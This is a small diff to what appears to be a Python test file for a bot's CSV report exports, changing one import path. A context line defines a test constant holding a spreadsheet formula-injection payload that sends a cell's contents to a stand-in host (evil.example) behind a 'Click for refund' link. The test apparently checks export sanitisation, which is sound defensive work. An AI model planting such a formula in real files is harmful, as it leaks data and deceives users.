@@ -11,7 +11,7 @@ from bot import spreadsheet
 from bot.reports.export import complaints_csv, responses_csv
 from storage.db import Database
 from storage.migrate import migrate
-from tests.reportdata import add_complaint, add_response
+from tests.support.reportdata import add_complaint, add_response
 
 SENT = datetime(2026, 10, 20, 12, 0, tzinfo=UTC)
 EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Click for refund")'
